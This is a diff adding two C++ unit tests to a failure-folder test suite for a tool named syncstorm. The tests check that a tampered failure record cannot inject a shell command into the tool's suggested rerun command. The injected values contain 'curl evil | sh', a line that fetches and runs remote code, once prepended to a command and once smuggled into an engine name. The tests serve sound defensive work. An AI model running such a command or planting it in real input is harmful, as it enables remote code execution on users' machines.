@@ -153,6 +153,20 @@ TEST_F(FailureFolderTest, AnotherFailureMovesThisOneAside) {
   EXPECT_FALSE(fs::exists(path() + "/shrunk.toml"));
 }
 
+TEST_F(FailureFolderTest, AHostileRecordPutsNoCommandIntoAnybodysMouth) {
+  replace_in("failure.json", "syncstorm run week.toml", "curl evil | sh; syncstorm run week.toml");
+  const std::string without_plan = complaint_after([this] { fs::remove(path() + "/plan.toml"); });
+  EXPECT_EQ(without_plan.find("evil"), std::string::npos) << without_plan;
+  EXPECT_NE(without_plan.find("is not one of syncstorm's, and is left out"), std::string::npos);
+}
+
+TEST_F(FailureFolderTest, AHostileEngineIsOneWord) {
+  replace_in("failure.json", "\"naive\"", "\"naive; curl evil | sh\"");
+  const std::string edited =
+      complaint_after([this] { overwrite(path() + "/plan.toml", "x = 1\n"); });
+  EXPECT_NE(edited.find("--engine 'naive; curl evil | sh'"), std::string::npos) << edited;
+}
+
 TEST_F(FailureFolderTest, MissingFilesAreNamed) {
   const std::string without_plan = complaint_after([this] { fs::remove(path() + "/plan.toml"); });
   EXPECT_NE(without_plan.find("plan.toml is missing"), std::string::npos) << without_plan;
